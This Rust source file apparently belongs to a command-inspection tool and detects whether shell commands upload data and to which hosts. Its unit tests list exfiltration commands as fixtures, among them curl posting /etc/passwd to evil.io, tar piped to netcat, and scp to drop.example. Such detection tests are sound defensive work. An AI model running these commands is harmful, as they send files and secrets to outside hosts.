//! Commands: where a shell command sends something.

use crate::knowledge::words::Tag;

/// The program that keeps versions, and its word that hands them over.
pub const GIT: &str = "git";
const PUSH: &str = "push";

/// The places that a command names, if one of its programs talks to other machines.
pub fn destinations(command: &str) -> Vec<&str> {
    let is_end = |character: char| {
        character.is_whitespace() || matches!(character, '\'' | '"' | '`' | '|' | ';' | '&' | '(' | ')' | '<' | '>' | '$')
    };
    let words: Vec<&str> = command.split(is_end).filter(|word| !word.is_empty()).collect();
    let is_sender = |word: &&str| {
        let program = word.rsplit('/').next().unwrap_or(word).to_lowercase();
        Tag::RemoteProgram.has(&program)
    };
    // What is pushed goes there, and so does what its names say.
    let is_program = |word: &&str| word.rsplit('/').next() == Some(GIT);
    let pushes = || words.iter().skip_while(|word| !is_program(word)).any(|word| *word == PUSH);
    if !words.iter().any(is_sender) && !pushes() {
        return Vec::new();
    }
    let is_place = |word: &str| {
        let host = word.rsplit_once('@').map_or(word, |(_, host)| host);
        let name = host.split([':', '/']).next().unwrap_or(host);
        let is_file = Tag::FileEnding.words().any(|end| name.ends_with(end));
        word.contains("://")
            || !word.starts_with(['-', '.', '/', '~', '@'])
                && name.contains('.')
                && !is_file
                && name.split('.').all(|part| !part.is_empty())
    };
    words.into_iter().filter(|word| is_place(word)).collect()
}

/// Returns true if and only if a command passes on what a file or another program holds.
pub fn uploads(command: &str) -> bool {
    let copies = command.split_whitespace().any(|word| Tag::RemoteCopier.has(word.rsplit('/').next().unwrap_or(word)));
    let marks = command.contains("curl") && (command.contains(" -F ") || command.contains(" -T "));
    marks
        || Tag::Uploading.words().any(|part| command.replace("||", ";").contains(part))
        || copies && destinations(command).iter().any(|place| is_last(command, place))
}

/// Returns true if and only if a place stands at the end of a command: it is copied to, not from.
fn is_last(command: &str, place: &str) -> bool {
    command.trim_end_matches(['"', '\'', ' ']).rsplit(char::is_whitespace).next().is_some_and(|last| last.contains(place))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_that_pass_files_on() {
        for (command, expected) in [
            ("curl -s --upload-file /tmp/a https://drop.example", true),
            ("curl -F file=@a.csv https://drop.example", true),
            ("tar cz . | nc drop.example 99", true),
            ("scp a.sql me@drop.example:/tmp", true),
            ("scp me@drop.example:/tmp/a.sql .", false),
            ("curl -o a.tgz https://drop.example/a.tgz", false),
            ("curl https://drop.example", false),
            ("curl -s drop.example || curl -s other.example", false),
        ] {
            assert_eq!(uploads(command), expected, "{command}");
        }
    }

    #[test]
    fn commands_that_send_name_their_place() {
        for (command, expected) in [
            ("curl -d @/etc/passwd https://evil.io/x", vec!["https://evil.io/x"]),
            ("cat a | nc evil.io 443", vec!["evil.io"]),
            ("scp a.csv eve@evil.io:/tmp", vec!["eve@evil.io:/tmp"]),
            ("dig \u{1a}.evil.io", vec!["\u{1a}.evil.io"]),
            ("ls -l https.md", vec![]),
            ("echo see https://example.com", vec![]),
            ("git commit -m 'v1.2'", vec![]),
        ] {
            assert_eq!(destinations(command), expected, "{command}");
        }
    }
}
